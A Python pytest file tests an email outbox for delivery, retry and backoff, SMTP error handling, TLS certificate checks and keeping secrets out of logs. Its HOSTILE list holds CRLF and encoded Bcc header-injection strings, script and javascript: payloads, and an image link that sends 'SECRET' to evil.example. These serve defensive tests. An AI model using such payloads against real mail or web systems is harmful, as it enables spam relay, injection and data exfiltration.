"""Mail against a real server: what arrives, what stays text, and what is sure when it goes wrong."""

from __future__ import annotations

import logging
import ssl
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from knowledge.outbox import delivery_of, queue_message, set_delivery
from knowledge.places import Places
from knowledge.records.client import Client
from knowledge.records.delivery import Delivery, Message, MessageLine, MessagePart, OutboxEntry
from ui.deliver.send import deliver_due, queue_brief, send_trial

pytestmark = pytest.mark.network

DANA, LEE = "dana@northgate.example", "lee@northgate.example"
NOTE = Message(key="note:1", subject="A note", lead="Read this.")


def entries(places: Places) -> dict[str, OutboxEntry]:
    with places.client("northgate") as place, place.read() as unit:
        return {entry.target: entry for entry in unit.outbox.list()}


def queue(places: Places, message: Message, now: datetime, *mail: str) -> None:
    with places.client("northgate") as place:
        set_delivery(place, Delivery(mail=mail), now)
        queue_message(place, message, now)


def test_a_brief_arrives_once_as_text_and_html(
    places: Places, northgate: Client, clinic: Any, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    brief = clinic.brief().model_copy(update={"client_id": "northgate"})
    with places.client("northgate") as place:
        set_delivery(place, Delivery(mail=(DANA, LEE)), clock())
        assert queue_brief(place, brief, clock()) == 2
        assert queue_brief(place, brief.model_copy(update={"headline": "Changed"}), clock()) == 0
    done = deliver_due(places, channels(box), clock)
    assert (done.sent, done.failed) == (2, {})
    assert sorted(box.recipients) == [DANA, LEE]
    mail = box.mails[0]
    assert mail["To"] in {DANA, LEE}
    assert mail["From"] == "brief@ciso.example"
    assert mail["Subject"].startswith(f"{brief.client_name}: ")
    assert mail["Auto-Submitted"] == "auto-generated"
    assert mail["Message-ID"].endswith("@ciso.example>")
    text, html = mail.get_body(("plain",)), mail.get_body(("html",))
    assert text is not None
    assert html is not None
    assert brief.headline.split(".")[0] in " ".join(text.get_content().split())
    assert "Not covered today" in text.get_content()
    assert "<h1>" in html.get_content()
    assert "Bcc" not in mail
    assert max(len(line) for line in box.raw[0].splitlines()) <= 998, "RFC 5322, 2.1.1"
    assert box.raw[0].isascii(), "no server has to take eight bits"
    clock.move(days=2)
    assert deliver_due(places, channels(box), clock).entries == (), "and never again"
    with places.client("northgate") as place, place.read() as unit:
        sent = unit.outbox.list()
        traces = [row for row in unit.audit.rows() if row.action == "message.sent"]
    assert all(one.state == "sent" and one.message is None for one in sent), "the text is forgotten, the trace stays"
    assert len(traces) == 2


HOSTILE = (
    "subject\r\nBcc: victim@example.com",
    "a\nTo: victim@example.com\n\nbody",
    "\x00\x1b[31m\u202eevil\u2028Bcc: v@example.com",
    "=?utf-8?q?=0D=0ABcc:_v@example.com?=",
    "=?utf-8?b?DQpCY2M6IHZAZXhhbXBsZS5jb20=?=",
    "=\u200b?utf-8?q?=0D=0ABcc:_v@example.com?=",
    "= =??utf-8?q?=0D=0ABcc:_v@example.com?=",
    "x" * 5000,
    "ä" * 300 + "\r\nBcc: v@example.com",
    "![x](https://evil.example/c?d=SECRET) <img src=https://evil.example/p.png>",
    "[click](https://evil.example) javascript:alert(1) www.evil.example",
    "<script>alert(1)</script> <!channel> @here",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_c28_markup_in_every_field_stays_inert(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any, text: str
) -> None:
    box = start_mail()
    message = Message(
        key="k",
        subject=f"Brief: {text}",
        lead=text,
        parts=(MessagePart(title=text, lines=(MessageLine(lead=text, text=text, url=text, url_title=text),)),),
        foot=text,
    )
    queue(places, message, clock(), DANA)
    assert deliver_due(places, channels(box), clock).sent == 1
    mail = box.mails[0]
    allowed = {"From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress",
               "MIME-Version", "Content-Type", "X-Peer", "X-MailFrom", "X-RcptTo"}  # fmt: skip
    assert set(mail.keys()) <= allowed
    assert mail.get_all("To") == [DANA]
    assert box.recipients == [DANA]
    assert len(mail["Subject"]) <= 200
    assert mail.defects == []
    for kind, forbidden in (
        ("plain", ("https://evil", "www.evil", "javascript:")),
        ("html", ("https://evil", "www.evil", "javascript:", "<script", "<img", "<!channel")),
    ):
        part = mail.get_body((kind,))
        assert part is not None
        body = part.get_content()
        assert not [one for one in forbidden if one in body]


def test_a_link_that_is_a_source_is_one(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    line = MessageLine(text="Look", url="https://vendor.example/a?b=1&c=2", url_title="<b>Vendor</b>")
    queue(places, Message(key="k", subject="s", parts=(MessagePart(title="t", lines=(line,)),)), clock(), DANA)
    deliver_due(places, channels(box), clock)
    html = box.mails[0].get_body(("html",))
    assert html is not None
    assert '<a href="https://vendor.example/a?b=1&amp;c=2"' in html.get_content()
    assert "&lt;b&gt;Vendor" in html.get_content()


def test_c22_server_down_then_up_delivers_once(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    port = box.port
    queue(places, NOTE, clock(), DANA, LEE)
    down = channels(port=1)  # nobody listens there
    done = deliver_due(places, down, clock)
    assert [entry.state for _, entry in done.entries] == ["queued", "queued"]
    first = entries(places)[DANA]
    assert (first.attempts, first.next_try_at) == (1, clock() + timedelta(minutes=1))
    assert "could not be reached" in first.reason
    assert deliver_due(places, down, clock).entries == (), "not before its time"
    clock.move(minutes=1)
    deliver_due(places, down, clock)
    assert entries(places)[DANA].next_try_at == clock() + timedelta(minutes=5)
    clock.move(minutes=5)
    assert deliver_due(places, channels(port=port), clock).sent == 2
    clock.move(days=1)
    assert deliver_due(places, channels(port=port), clock).entries == ()
    assert sorted(box.recipients) == [DANA, LEE]


def test_tries_end_and_a_person_may_ask_again(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    from knowledge.outbox import BACKOFF_MINUTES, retry

    queue(places, NOTE, clock(), DANA)
    for _ in range(len(BACKOFF_MINUTES) + 3):
        deliver_due(places, channels(port=1), clock)
        clock.move(hours=9)
    entry = entries(places)[DANA]
    assert (entry.state, entry.attempts, entry.next_try_at) == ("failed", len(BACKOFF_MINUTES) + 1, None)
    with places.client("northgate") as place:
        assert len(retry(place, clock())) == 1
    box = start_mail()
    assert deliver_due(places, channels(box), clock).sent == 1


@pytest.mark.parametrize(
    ("answers", "state", "words"),
    [
        ({"on_rcpt": "550 no such user"}, "failed", "550"),
        ({"on_rcpt": "451 greylisted, come back"}, "queued", "451"),
        ({"on_data": "554 spam"}, "failed", "554"),
        ({"on_data": "452 disk full"}, "queued", "452"),
        ({"drop_after_data": True}, "unsure", "after the message had left"),
    ],
)
def test_what_the_server_says_decides(
    places: Places,
    northgate: Client,
    start_mail: Any,
    channels: Any,
    clock: Any,
    answers: dict[str, Any],
    state: str,
    words: str,
) -> None:
    box = start_mail()
    for name, value in answers.items():
        setattr(box, name, value)
    queue(places, NOTE, clock(), DANA)
    deliver_due(places, channels(box), clock)
    entry = entries(places)[DANA]
    assert entry.state == state
    assert words in entry.reason
    box.drop_after_data = False
    clock.move(days=3)
    deliver_due(places, channels(box), clock)
    assert len(box.raw) == (1 if state == "unsure" else 0), "one that may have arrived is never sent again by itself"


def test_a_lost_answer_is_sent_again_only_when_a_person_says_so(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    from knowledge.errors import UsageError
    from knowledge.outbox import retry

    box = start_mail()
    box.drop_after_data = True
    queue(places, NOTE, clock(), DANA)
    deliver_due(places, channels(box), clock)
    box.drop_after_data = False
    with places.client("northgate") as place:
        assert retry(place, clock()) == ()
        with pytest.raises(UsageError, match="unsure"):
            retry(place, clock(), ids=[entries(places)[DANA].id])
        assert len(retry(place, clock(), unsure=True)) == 1
    deliver_due(places, channels(box), clock)
    assert box.mails[0]["Message-ID"] == box.mails[1]["Message-ID"], "a mailbox can tell that it is the same"


def test_a_server_that_stops_answering_is_not_asked_for_the_others(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    box.drop_after_data = True
    queue(places, NOTE, clock(), DANA, LEE)
    deliver_due(places, channels(box), clock)
    assert len(box.raw) == 1
    found = sorted(entries(places).values(), key=lambda entry: entry.state)
    assert [entry.state for entry in found] == ["queued", "unsure"], "what did not leave is tried again"
    assert found[0].reason == "the mail server did not answer to the message before"
    box.drop_after_data = False
    clock.move(minutes=1)
    deliver_due(places, channels(box), clock)
    assert sorted(box.recipients) == [DANA, LEE]


def test_a_recipient_taken_off_meanwhile_gets_nothing(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    queue(places, NOTE, clock(), DANA, LEE)
    with places.client("northgate") as place:
        set_delivery(place, Delivery(mail=(LEE,)), clock())
        queue_message(place, Message(key="sign:1", subject="Please sign"), clock(), to=("sam@northgate.example",))
    deliver_due(places, channels(box), clock)
    assert sorted(box.recipients) == [LEE, "sam@northgate.example"]
    assert entries(places)[DANA].state == "dropped"


@pytest.mark.parametrize("security", ["starttls", "tls"])
def test_the_connection_is_protected_and_the_certificate_checked(
    places: Places,
    northgate: Client,
    start_mail: Any,
    channels: Any,
    clock: Any,
    certificates: Path,
    security: str,
) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificates / "server.pem", certificates / "server.key")
    if security == "starttls":
        box = start_mail(auth_required=True, tls_context=context, require_starttls=True)
    else:
        box = start_mail(auth_required=True, ssl_context=context, auth_require_tls=False)
    account = {
        "smtp_security": security,
        "smtp_user": "vciso",
        "smtp_password": SecretStr("right"),
        "ca_file": str(certificates / "ca.pem"),
    }
    queue(places, NOTE, clock(), DANA)
    unknown = deliver_due(places, channels(box, **(account | {"ca_file": ""})), clock)
    assert "certificate was not accepted" in unknown.entries[0][1].reason
    assert box.logins == [], "no password goes to a server that is not who it says"
    clock.move(minutes=1)
    wrong = deliver_due(places, channels(box, **(account | {"smtp_password": SecretStr("hunter2-wrong")})), clock)
    assert "refused the account" in wrong.entries[0][1].reason
    assert "hunter2" not in wrong.entries[0][1].model_dump_json()
    clock.move(minutes=5)
    assert deliver_due(places, channels(box, **account), clock).sent == 1
    assert box.logins[-1] == ("vciso", "right")


def test_no_mail_goes_out_unprotected(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    queue(places, NOTE, clock(), DANA)
    for changes, words in (
        ({"smtp_security": "starttls"}, "no STARTTLS"),
        ({"smtp_host": "mail.example"}, "is refused"),
        ({"smtp_host": ""}, "VCISO_SMTP_HOST"),
        ({"mail_from": "me"}, "VCISO_MAIL_FROM"),
        ({"mail_from": "me@a.example\r\nBcc: x@y.example"}, "VCISO_MAIL_FROM"),
    ):
        done = deliver_due(places, channels(box, **changes), clock)
        assert words in done.entries[0][1].reason, changes
        clock.move(hours=9)
    assert box.raw == []


def test_c31_no_secret_in_rows_output_or_log(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    secret = "s3cret-password-0123456789abcdefghij"
    box = start_mail()
    box.on_rcpt = f"550 rejected {secret}"
    queue(places, NOTE, clock(), DANA)
    made = channels(box, smtp_user="u", smtp_password=SecretStr(secret))
    done = deliver_due(places, made, clock)
    assert secret not in repr(done)
    assert secret not in repr(made)
    assert secret not in caplog.text
    with places.client("northgate") as place:
        assert secret not in place.folder.joinpath("client.sqlite3").read_bytes().decode("latin-1")


def test_a_trial_arrives_or_is_given_up_at_once(
    places: Places, northgate: Client, start_mail: Any, channels: Any, clock: Any
) -> None:
    box = start_mail()
    queue(places, NOTE, clock(), DANA)
    done = send_trial(places, channels(box), clock, "northgate")
    assert done.sent == 1
    assert box.mails[0]["Subject"] == "Test message: Northgate"
    assert len(box.raw) == 1, "a test sends nothing else that waits"
    clock.move(seconds=1)
    failed = send_trial(places, channels(port=1), clock, "northgate")
    assert failed.sent == 0
    with places.client("northgate") as place, place.read() as unit:
        assert [entry.key for entry in unit.outbox.undelivered()] == ["note:1"], "nobody waits for a test"
    assert delivery_of_is_unchanged(places)


def delivery_of_is_unchanged(places: Places) -> bool:
    with places.client("northgate") as place:
        return delivery_of(place).mail == (DANA,)
